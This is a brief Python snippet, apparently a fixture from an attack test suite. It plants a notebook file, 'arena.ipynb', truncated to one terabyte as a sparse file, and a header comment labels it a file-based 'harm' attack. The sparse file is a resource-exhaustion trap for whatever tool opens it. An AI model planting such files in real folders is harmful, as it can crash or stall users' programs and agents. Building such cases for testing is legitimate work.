# {"attack": "Hands in a notebook of a terabyte that takes no place on the disk.", "breach": "harm", "kind": "files"}

def plant(folder, targets):
    with (folder / "arena.ipynb").open("wb") as file:
        file.truncate(2**40)
